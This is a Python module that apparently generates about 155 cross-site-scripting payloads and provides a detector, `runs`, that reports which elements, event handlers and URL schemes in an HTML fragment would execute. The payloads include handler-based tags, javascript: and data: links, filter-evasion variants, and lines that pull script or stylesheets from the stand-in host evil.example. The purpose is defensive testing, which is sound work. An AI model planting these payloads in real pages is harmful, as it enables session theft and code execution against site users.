"""Scripts that somebody may write into a text: 150 of them, and what of a page would run.

``runs`` reads a page as a browser does and names what would act in it.
"""

from itertools import product

from lxml import html as lxml_html

_HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart",
    "onpointerenter", "onbeforeinput", "onwheel",
)  # fmt: skip
_TAGS = (
    '<img src=x {0}="ran()">',
    "<svg {0}=ran()>",
    '<details open {0}="ran()">x</details>',
    "<p {0}='ran()' tabindex=1 autofocus>x</p>",
    '<a href="#" {0}="ran()">x</a>',
    "<IMG SRC=x {0} = ran()//>",
    "<table><tr><td {0}=ran()>x</td></tr></table>",
    '**重点<b {0}="ran()">**</b>',
)
_SCHEMES = (
    "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "java\nscript:ran()",
    "&#106;avascript:ran()", "javascript&colon;ran()", "\x01javascript:ran()", "vbscript:ran()",
    "data:text/html,<script>ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2M+",
)  # fmt: skip
_LINKS = ("[点这里]({0})", '<a href="{0}">x</a>', "![图]({0})", "[x]: {0}\n\n[x]", "<{0}>",
          '<form action="{0}"><button>x</button></form>')  # fmt: skip
_OTHERS = (
    "<script>ran()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>ran()",
    "<script\n>ran()</script\n>", "<iframe src='javascript:ran()'></iframe>",
    "<iframe srcdoc='<script>ran()</script>'>", "<object data='x.swf'></object>",
    "<embed src='x.swf'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<svg><script>ran()</script></svg>",
    "<math><mtext><img src=x onerror=ran()></mtext></math>", "`<script>ran()</script>`",
)  # fmt: skip

PAYLOADS = [
    *(tag.format(handler) for tag, handler in product(_TAGS, _HANDLERS)),
    *(link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)),
    *_OTHERS,
][:160]
ELEMENTS = frozenset(
    {"script", "iframe", "object", "embed", "style", "base", "form", "meta", "link"}
)
PASSED_OVER = {ord(one): None for one in "\t\n\r"}  # as browsers read an address
AT_START = "".join(map(chr, range(33)))
ACTING_SCHEMES = ("javascript:", "vbscript:", "data:")


def runs(page: str) -> list[str]:
    """The elements, handlers and addresses in a piece of a page that would act."""
    if not page.strip():
        return []
    found = []
    for one in lxml_html.fragment_fromstring(page, create_parent="div").iter():
        if not isinstance(one.tag, str):
            continue
        if one.tag.lower() in ELEMENTS:
            found.append(one.tag)
        for name, value in one.attrib.items():
            address = value.translate(PASSED_OVER).lower().lstrip(AT_START)
            if name.lower().startswith("on") or name.lower() in {"style", "srcdoc"}:
                found.append(name)
            elif address.startswith(ACTING_SCHEMES):
                found.append(f"{name}={value}")
    return found
